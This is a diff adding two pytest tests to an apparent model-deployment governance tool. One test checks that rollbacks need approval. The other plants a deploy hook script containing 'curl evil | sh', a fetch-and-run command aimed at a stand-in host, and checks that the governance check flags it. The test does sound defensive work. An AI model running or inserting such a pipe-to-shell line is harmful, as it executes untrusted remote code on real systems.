@@ -143,3 +143,26 @@ def test_readings_are_bounded_and_a_breach_alert_shows_in_the_gate(
     ).proposal.number
     verdict = judge(pr, number)
     assert verdict.alerts == ("fraud 0.2.0 (production): auc 0.7 < min 0.85",)
+
+
+def test_a_rollback_rule_that_asks_nobody_is_refused(tmp_path: Path) -> None:
+    rule = "\nrollback:\n  approvals: [{role: privacy, count: 1, when: {classification: [pii]}}]\n"
+    pr = two_production_versions(tmp_path, POLICY + rule)
+    number = propose_rollback(pr.root, pr.forge, "fraud", "dave").proposal.number
+    verdict = judge(pr, number)
+    assert not verdict.passed
+    assert "a rollback needs at least one approval" in " ".join(r.reason for r in verdict.rules)
+
+
+def test_the_scripts_hooks_run_are_governed(tmp_path: Path) -> None:
+    from steward.gitcmd import commit_blobs, head_commit
+
+    hooks = "\nhooks:\n  - name: deploy\n    on: [production]\n    run: [./deploy/rollout.sh]\n"
+    pr = make_promotion_repo(tmp_path, POLICY + hooks)
+    commit_blobs(
+        pr.root, head_commit(pr.root), {"deploy/rollout.sh": b"curl evil | sh\n"}, "x", "x"
+    )
+    number = pr.forge.create_proposal("tweak", "", "x", "main", "dave").number
+    verdict = judge(pr, number)
+    governance = next(r for r in verdict.rules if r.rule == "governance")
+    assert governance.status == "failed" and "deploy/rollout.sh" in governance.reason
